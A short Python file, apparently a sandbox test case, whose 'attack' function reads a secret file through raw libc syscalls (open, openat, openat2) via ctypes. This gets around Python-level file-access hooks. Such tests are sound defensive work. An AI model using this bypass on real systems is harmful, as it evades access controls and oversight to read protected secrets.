# ends: returned, raised
# opens a file by raw system calls

import ctypes
import os


def attack(scene):
    libc = ctypes.CDLL(None)
    path = ctypes.c_char_p(scene["secret_path"].encode())
    how = (ctypes.c_uint64 * 3)(0, 0, 0)
    for call in ((2, path, 0), (257, -100, path, 0), (437, -100, path, how, 24)):
        descriptor = libc.syscall(*call)
        if descriptor >= 0:
            return os.read(descriptor, 1000).decode()
